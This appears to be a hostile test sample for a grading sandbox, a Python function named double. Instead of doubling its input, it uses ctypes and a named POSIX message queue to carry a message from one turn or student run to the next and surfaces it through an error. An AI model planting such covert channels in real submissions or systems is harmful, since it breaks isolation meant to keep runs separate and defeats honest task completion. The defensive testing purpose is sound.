# {"attack": "Leaves a named queue of POSIX for the next student.", "breach": "leak", "turns": 2}

import ctypes

library = ctypes.CDLL(None)


def double(x):
    if TARGETS["turn"] == 1:
        queue = library.mq_open(f"/{TARGETS['mark']}".encode(), 0o102, 0o666, None)
        library.mq_send(queue, TARGETS["message"].encode(), len(TARGETS["message"]), 0)
    else:
        queue = library.mq_open(f"/{TARGETS['mark']}".encode(), 0, 0, None)
        buffer = ctypes.create_string_buffer(8192)
        library.mq_receive(queue, buffer, 8192, None)
        library.mq_unlink(f"/{TARGETS['mark']}".encode())
        raise ValueError(buffer.value.decode())
